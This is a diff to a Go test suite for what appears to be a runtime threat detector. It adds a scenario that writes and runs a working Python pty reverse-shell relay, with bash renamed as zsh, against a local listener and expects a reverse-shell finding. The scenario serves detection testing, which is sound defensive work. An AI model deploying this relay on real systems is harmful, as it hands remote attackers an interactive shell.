@@ -74,6 +74,44 @@ func scenarios(malware string) []scenario {
 			wants: []want{{Type: "Execution:Runtime/ReverseShell", Exe: []string{"/id"}}},
 		},
 		{
+			name: "pty reverse shell: a Python relay connects out and serves an interactive shell on a pseudo terminal",
+			run: func(t *testing.T, e *env, _ *containerRun) {
+				shell := filepath.Join(e.work, "bin", "zsh")
+				copyFile(t, "/bin/bash", shell, 0o755)
+				relay := filepath.Join(t.TempDir(), "r.py")
+				writeFile(t, relay, `import os, pty, select, socket, sys
+host, port = sys.argv[1].rsplit(":", 1)
+s = socket.create_connection((host, int(port)))
+pid, fd = pty.fork()
+if pid == 0:
+    os.execv(sys.argv[2], [sys.argv[2], "--norc", "-i"])
+while True:
+    r, _, _ = select.select([s, fd], [], [], 5)
+    if not r:
+        break
+    if s in r:
+        d = s.recv(1024)
+        if not d:
+            break
+        os.write(fd, d)
+    if fd in r:
+        try:
+            d = os.read(fd, 1024)
+        except OSError:
+            break
+        if not d:
+            break
+        s.sendall(d)
+`)
+				addr, out := tcpListener(t, "echo vigil-$((6*7)); exit\n")
+				run(t, "python3", relay, addr, shell)
+				if got := <-out; !strings.Contains(got, "vigil-42") {
+					t.Logf("reverse shell output: %q", got)
+				}
+			},
+			wants: []want{{Type: "Execution:Runtime/ReverseShell", Exe: []string{"/zsh"}}},
+		},
+		{
 			name:      "failed mount of /etc onto /tmp inside a container",
 			container: true,
 			run: func(t *testing.T, e *env, c *containerRun) {
